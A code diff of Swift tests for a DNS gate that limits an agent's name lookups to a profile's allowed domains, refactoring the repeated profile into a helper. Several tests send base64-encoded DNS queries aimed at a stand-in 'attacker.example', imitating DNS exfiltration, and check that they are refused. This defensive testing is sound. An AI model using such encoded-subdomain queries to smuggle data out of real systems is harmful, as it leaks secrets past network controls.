@@ -44,6 +44,19 @@ struct DNSGateTests {
         }
     }
 
+    /// A profile whose one rule allows `*.allowed.example` on `port`: a
+    /// wildcard, so riptides resolves no name itself and only the agent's
+    /// own DNS answers bind addresses to names.
+    static func wildcardProfile(_ name: String, port: UInt16 = 443) throws -> String {
+        try Harness.profile(name, """
+            identity: spiffe://test.example/agent/dns
+            rules:
+              - name: api
+                to: ["*.allowed.example"]
+                ports: [\(port)]
+            """)
+    }
+
     /// dns_client.py under riptides with `nameserver` as the gate's; the
     /// client sends to `server` (the nameserver's address unless given).
     /// riptides runs in `namespace` when given.
@@ -61,13 +74,7 @@ struct DNSGateTests {
     @Test("a query for a name no rule allows is REFUSED and never reaches the nameserver; an allowed one is answered")
     func refusesUnlistedNames() throws {
         let nameserver = try Nameserver(address: "127.0.0.77")
-        let profile = try Harness.profile("dns", """
-            identity: spiffe://test.example/agent/dns
-            rules:
-              - name: api
-                to: ["*.allowed.example"]
-                ports: [443]
-            """)
+        let profile = try Self.wildcardProfile("dns")
         let result = try Self.run(nameserver, profile: profile, ["api.allowed.example", "c2VjcmV0LWRhdGE.attacker.example"])
         #expect(result.reports["api.allowed.example"] == "rcode0 answers=1 127.0.0.1")
         #expect(result.reports["c2VjcmV0LWRhdGE.attacker.example"] == "rcode5 answers=0")
@@ -81,13 +88,7 @@ struct DNSGateTests {
     func bindsAnswers() throws {
         let nameserver = try Nameserver(address: "127.0.0.78")
         let listener = try Listener(.tcp)
-        let profile = try Harness.profile("dns-bind", """
-            identity: spiffe://test.example/agent/dns
-            rules:
-              - name: api
-                to: ["*.allowed.example"]
-                ports: [\(listener.port)]
-            """)
+        let profile = try Self.wildcardProfile("dns-bind", port: listener.port)
         let bound = try Self.run(nameserver, profile: profile, ["api.allowed.example", "--connect", "\(listener.port)"])
         #expect(bound.reports["connect"] == "ok", "\(bound.stdout)")
         #expect(listener.messages() == ["hello"])
@@ -111,13 +112,7 @@ struct DNSGateTests {
     func ipv6Nameserver() throws {
         let nameserver = try Nameserver(address: "::1")
         let listener = try Listener(.tcp)
-        let profile = try Harness.profile("dns-v6", """
-            identity: spiffe://test.example/agent/dns
-            rules:
-              - name: api
-                to: ["*.allowed.example"]
-                ports: [\(listener.port)]
-            """)
+        let profile = try Self.wildcardProfile("dns-v6", port: listener.port)
         let result = try Self.run(nameserver, profile: profile,
                                   ["api.allowed.example", "c2VjcmV0.attacker.example", "--connect", "\(listener.port)"])
         #expect(result.reports["api.allowed.example"] == "rcode0 answers=1 127.0.0.1", "\(result.stdout)")
@@ -135,13 +130,7 @@ struct DNSGateTests {
         // A host of the test's own, so that the machine's addresses stay untouched.
         let host = try TestNamespace(addresses: ["fd00:53::53/128"])
         let nameserver = try Nameserver(address: "fd00:53::53", in: host)
-        let profile = try Harness.profile("dns-v6-global", """
-            identity: spiffe://test.example/agent/dns
-            rules:
-              - name: api
-                to: ["*.allowed.example"]
-                ports: [443]
-            """)
+        let profile = try Self.wildcardProfile("dns-v6-global")
         let result = try Self.run(nameserver, profile: profile, in: host, ["api.allowed.example", "c2VjcmV0.attacker.example"])
         #expect(result.status == 0, "\(result.stderr)")
         #expect(result.reports["api.allowed.example"] == "rcode0 answers=1 127.0.0.1", "\(result.stdout)\(result.stderr)")
@@ -154,13 +143,7 @@ struct DNSGateTests {
         let nameserver = try Nameserver(address: "127.0.0.83")
         // A multicast address: the kernel refuses it as an interface address.
         try "nameserver ff02::1\nnameserver 127.0.0.83\n".write(toFile: nameserver.resolvConf, atomically: true, encoding: .utf8)
-        let profile = try Harness.profile("dns-v6-refused", """
-            identity: spiffe://test.example/agent/dns
-            rules:
-              - name: api
-                to: ["*.allowed.example"]
-                ports: [443]
-            """)
+        let profile = try Self.wildcardProfile("dns-v6-refused")
         let result = try Self.run(nameserver, profile: profile, ["api.allowed.example", "c2VjcmV0.attacker.example"])
         #expect(result.status == 0, "\(result.stderr)")
         #expect(result.stderr.contains("riptides: IPv6 nameserver ff02::1 could not be set up in the agent's namespace; queries to it follow the profile's address rules\n"),
@@ -194,13 +177,7 @@ struct DNSGateTests {
     @Test("the name decided is the name sent: a label holding a dot is refused, not read as a name below an allowed domain")
     func dottedLabel() throws {
         let nameserver = try Nameserver(address: "127.0.0.81")
-        let profile = try Harness.profile("dns-dot", """
-            identity: spiffe://test.example/agent/dns
-            rules:
-              - name: api
-                to: ["*.allowed.example"]
-                ports: [443]
-            """)
+        let profile = try Self.wildcardProfile("dns-dot")
         // Labels: "dot-secret", "attacker.allowed" (one label), "example".
         let result = try Self.run(nameserver, profile: profile, ["dot-secret.attacker\\.allowed.example"])
         #expect(result.reports.values.contains("rcode5 answers=0"), "\(result.stdout)")
